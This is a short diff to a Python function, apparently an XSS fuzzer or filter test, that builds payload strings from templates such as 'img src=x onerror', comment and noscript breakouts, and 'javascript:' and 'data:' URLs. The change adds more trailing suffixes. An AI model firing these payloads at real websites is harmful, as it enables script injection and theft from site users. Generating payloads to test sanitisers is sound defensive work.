@@ -76,6 +76,7 @@ def payloads(n):
               "javascript:{r}", "data:text/html,<script>{r}</script>",
               "<noscript><p title=\"</noscript><img src=x onerror={r}>\">", "<!--><img src=x onerror={r}>",
               "<marquee onstart={r}>x</marquee>"]
-    tails = ["", " ", "\n", "</p>", "<!--", "\u2028", "&lt;", "\"", "'", "`", "\\"]
+    tails = ["", " ", "\n", "</p>", "<!--", "\u2028", "&lt;", "\"", "'", "`", "\\", "-->", "/*", "]]>",
+             "</style>", "\u0000"]
     return [shapes[i % len(shapes)].format(r=run) + tails[i // len(shapes) % len(tails)]
             for i in range(n)]
